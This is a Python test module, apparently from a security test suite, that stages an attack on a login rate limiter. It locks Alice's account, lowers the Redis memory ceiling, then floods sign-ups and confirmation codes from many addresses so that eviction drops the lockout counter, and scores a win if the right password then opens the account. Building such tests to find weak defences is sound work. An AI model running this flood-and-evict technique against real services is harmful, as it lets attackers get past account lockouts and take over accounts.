"""F6: a Redis that drops counters when its memory is short, and an attacker who makes it short."""

from __future__ import annotations

from functools import partial

from attacks.attack import Attack, Criterion
from attacks.client import Broken, Client
from attacks.crowd import address, count_reached, in_turn
from attacks.people import ALICE, MALLORY
from attacks.target import Setup, Target

LIMIT = 5
ROOM = 128 * 1024
"""Bytes that are left for other counters."""
FLOODS, SIGNUPS, CODES = 6, 8, 20
"""Floods at most; the sign-ups begun in each; the wrong codes tried on each of them, which cost next to nothing."""


def run(target: Target) -> int:
    """Block an account, fill the store with other counters, and see whether the right password then opens it."""
    attacker = target.client(MALLORY.address)
    reached = count_reached(attacker.login(ALICE.contact, f"guess {number}") for number in range(LIMIT))
    if reached < LIMIT or attacker.login(ALICE.contact, ALICE.password).reached:
        raise Broken("the account was never blocked")
    # A server of the size it was started with takes a longer flood, and that is all.
    target.server.ask("CONFIG", "SET", "maxmemory", str(_used(target) + ROOM))
    for flood in range(FLOODS):
        in_turn([partial(_flood, target, flood * SIGNUPS + number) for number in range(SIGNUPS)])
        if attacker.login(ALICE.contact, ALICE.password).right:
            return 1
    return 0


def _used(target: Target) -> int:
    return int(target.server.ask("INFO", "memory")["used_memory"])


def _flood(target: Target, number: int) -> None:
    clients: list[Client] = [target.client(address(number * CODES + each)) for each in range(CODES)]
    fields = {"name": "nobody", "contact": f"nobody{number}@example.com", "password": "some words that nobody uses"}
    signup = clients[0].insist("POST", "/signup", fields).document.get("signup", "")
    for each, client in enumerate(clients):
        client.send("POST", "/confirm", {"signup": signup, "code": f"{each:06}"})


EVICTION = Attack(
    "F6",
    "counters dropped for want of memory",
    "store-check",
    Criterion("blocked accounts opened", wins=1, loses=(0, 0)),
    run,
    Setup(
        proxied=True,
        redis=("--maxmemory", "64mb", "--maxmemory-policy", "allkeys-lru", "--maxmemory-samples", "10"),
        refusal="AG404",
    ),
)
